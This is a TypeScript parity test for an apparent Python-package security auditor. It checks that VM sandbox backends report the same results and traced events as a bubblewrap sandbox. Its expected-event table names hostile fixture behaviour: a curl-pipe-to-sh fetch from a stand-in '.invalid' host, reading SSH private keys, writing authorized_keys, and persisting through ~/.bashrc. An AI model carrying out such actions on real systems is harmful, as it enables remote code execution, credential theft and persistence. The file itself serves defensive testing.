/**
 * The VM backends give the same report contents as the bubblewrap sandbox for every fixture
 * package (timings aside): same result, verdict, task statuses, tests, lint, style, installed
 * distributions and findings. Set PYTI_PARITY_BACKENDS (default `qemu,libvirt`) to choose; a
 * backend that cannot run here is skipped with its reason printed. PYTI_PARITY_FIXTURES (a comma list)
 * narrows the fixtures, e.g. for a quick run.
 *
 * Trace parity: the VM's traces hold every package-caused event of bwrap's, for the install-time
 * (build, install) and import-time (import) phases and execute — the same audits, compared by
 * trace-parity/package-events.ts's keys (what the package's code did: files changed, read or probed,
 * programs run, network; normalised across backends, the interpreter's and PyTI's own events left out).
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { auditDistribution, BwrapBackend, ensureLibvirtd, LibvirtBackend, QemuBackend, type Backend } from '@pyti/slave';
import { type AuditReport, type Phase } from '@pyti/common';
import { buildFixture, makeWheelhouse } from './fixture-dists.js';
import { auditPackageEvents } from './trace-parity/audit-events.js';
import { describeMissing, missingEvents, type PackageEvents } from './trace-parity/package-events.js';

/** Every fixture package with the wheelhouse it is audited with. */
const ALL_FIXTURES: [string, string[]][] = [
  ['pyti-sample', ['pyti-helper']], ['failing-tests', []], ['lint-errors', []], ['cext-pkg', []], ['build-fail', []],
  ['net-setup', []], ['ssh-writer', []], ['curl-spawner', []], ['net-tests', []], ['import-side-effects', []], ['needs-missing-dep', []],
];
const only = process.env.PYTI_PARITY_FIXTURES?.split(',').filter(Boolean);
const FIXTURES = only ? ALL_FIXTURES.filter(([name]) => only.includes(name)) : ALL_FIXTURES;

/** The phases whose package-caused events the VM's traces must all hold: install-time, import-time, and execute. */
const TRACE_PHASES: readonly Phase[] = ['build', 'install', 'import', 'execute'];

/**
 * Events the hostile fixtures are known to cause, which bwrap's keys must hold: the comparison is not
 * vacuous (a normaliser that dropped everything would pass every comparison).
 */
const KNOWN_EVENTS: Record<string, Partial<Record<Phase, string[]>>> = {
  'ssh-writer': { build: ['write ~/.ssh/authorized_keys', 'read ~/.ssh/id_rsa'] },
  'curl-spawner': { build: ['exec sh -c curl -fsS http://pyti-payload.invalid/stage2 | sh', 'probe $PATH/curl'] },
  'net-setup': { build: ['dns A pyti-exfil.invalid', 'connect inet 127.0.0.1:9/tcp', 'connect inet6 ::1:9/tcp', 'send inet 127.0.0.1:9/udp'] },
  'import-side-effects': { import: ['write ~/.local/bin/pyti-updater', 'exec ~/.local/bin/pyti-updater', 'write ~/.bashrc'] },
};

/**
 * What a user reads in a report, without timings, pids and paths that differ by machine. When a
 * `halt` task fails (a build failure), the tasks that do not depend on it (lint, style) ran or were
 * skipped depending on how far they had got: that is timing, so it is left out of the comparison.
 */
function essence(r: AuditReport): Record<string, unknown> {
  const halted = r.tasks.some((t) => /^run halted by/.test(t.reason ?? ''));
  const raced = (id: string): boolean => halted && (id === 'lint' || id === 'style');
  return {
    result: r.result, verdict: r.verdict, maxSeverity: r.maxSeverity,
    tasks: r.tasks.filter((t) => !raced(t.id)).map((t) => `${t.id}:${t.status}`),
    tests: r.tests && { total: r.tests.total, passed: r.tests.passed, failed: r.tests.failed, cases: r.tests.cases.map((c) => `${c.name}:${c.outcome}`).sort() },
    coverage: r.coverage?.percent,
    lint: raced('lint') ? 'raced' : r.lint && { score: r.lint.score, symbols: r.lint.messages.map((m) => m.symbol).sort() },
    style: raced('style') ? 'raced' : r.style?.total,
    installed: r.install?.installed?.map((i) => `${i.name}==${i.version}`).sort(),
    missing: r.install?.missingDependencies,
    imports: r.imports?.map((i) => `${i.module}:${i.ok}`),
    findings: [...new Set(r.findings.map((f) => `${f.phase}:${f.rule}:${f.severity}:${f.title}`))].sort(),
    dns: Object.fromEntries(Object.entries(r.traces).map(([phase, t]) => [phase, [...(t?.dnsNames ?? [])].sort()])),
  };
}

const wanted = (process.env.PYTI_PARITY_BACKENDS ?? 'qemu,libvirt').split(',').filter(Boolean);
/**
 * libvirt runs the same guest image and agent as QEMU (only the domain's management differs, which
 * its conformance suite covers whole): it is compared on the fixtures that exercise different guest
 * paths — a clean package with a dependency, the sinkhole, a sensitive write, a spawned downloader —
 * unless PYTI_PARITY_ALL=1. Every fixture through both VMs took about 40 min of CI under TCG.
 */
const SUBSET: Record<string, string[]> = { libvirt: ['pyti-sample', 'net-setup', 'ssh-writer', 'curl-spawner'] };
const fixturesFor = (label: string): [string, string[]][] =>
  process.env.PYTI_PARITY_ALL === '1' || !SUBSET[label] ? FIXTURES : FIXTURES.filter(([name]) => SUBSET[label]!.includes(name));
const makers: Record<string, () => Promise<Backend>> = {
  qemu: async () => new QemuBackend(),
  libvirt: async () => {
    await ensureLibvirtd(undefined, 90000).catch(() => undefined);
    return new LibvirtBackend();
  },
};

let dir: string;
const reference = new Map<string, Record<string, unknown>>();
const referenceEvents = new Map<string, Map<Phase, PackageEvents>>();
beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'pyti-parity-'));
  const bwrap = new BwrapBackend();
  for (const [name, wheels] of FIXTURES) {
    const outDir = join(dir, `bwrap-${name}`);
    const { report } = await auditDistribution({
      distPath: buildFixture(name, 'sdist'), wheelhouse: makeWheelhouse(join(dir, `wh-${name}`), wheels), outDir, backend: bwrap,
    });
    reference.set(name, essence(report));
    referenceEvents.set(name, auditPackageEvents(outDir, report));
  }
}, 20 * 60 * 1000);
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const knownHere = Object.entries(KNOWN_EVENTS).filter(([name]) => FIXTURES.some(([f]) => f === name));
if (knownHere.length) {
  describe('bwrap traces show what the hostile fixtures do (the trace comparison is not vacuous)', () => {
    it.each(knownHere)('%s', (name, known) => {
      for (const [phase, keys] of Object.entries(known) as [Phase, string[]][]) {
        expect([...(referenceEvents.get(name)?.get(phase)?.keys() ?? [])]).toEqual(expect.arrayContaining(keys));
      }
    });
  });
}

for (const label of wanted.filter((l) => fixturesFor(l).length)) {
  describe(`${label} gives the same reports as bwrap`, () => {
    let backend: Backend | undefined;
    let why: string | null = null;
    beforeAll(async () => {
      backend = await makers[label]!();
      why = await backend.probe();
      if (why) process.stderr.write(`parity ${label}: SKIPPED, the backend cannot run here: ${why}\n`);
    }, 5 * 60 * 1000);

    /** The package-caused events of this backend's audit of each fixture (for the trace comparison below). */
    const events = new Map<string, Map<Phase, PackageEvents>>();
    it.each(fixturesFor(label))('%s', async (name, wheels) => {
      if (why) return;
      const outDir = join(dir, `${label}-${name}`);
      const { report } = await auditDistribution({
        distPath: buildFixture(name, 'sdist'), wheelhouse: makeWheelhouse(join(dir, `wh-${label}-${name}`), wheels), outDir, backend: backend!,
      });
      events.set(name, auditPackageEvents(outDir, report));
      // A retried attempt is the infrastructure's failure, not a difference: print it, for the record.
      for (const r of report.retried ?? []) {
        process.stderr.write(`parity ${label} ${name}: retried after ${r.infraError.kind} (${r.infraError.message}); its console ended:\n${r.console.slice(-3000)}\n`);
      }
      expect(report.backend).toMatchObject({ name: label, isolation: 'vm', network: 'none' });
      expect(essence(report)).toEqual(reference.get(name));
    }, 15 * 60 * 1000);

    it.each(fixturesFor(label))('%s: its traces hold every package-caused event of bwrap\'s', (name) => {
      if (why) return;
      const mine = events.get(name);
      if (!mine) throw new Error(`${label} did not audit ${name} (see the test above)`);
      const missing = missingEvents(referenceEvents.get(name)!, mine, TRACE_PHASES);
      if (missing.length) throw new Error(`${name}: ${describeMissing(label, 'bwrap', missing)}`);
    });
  });
}
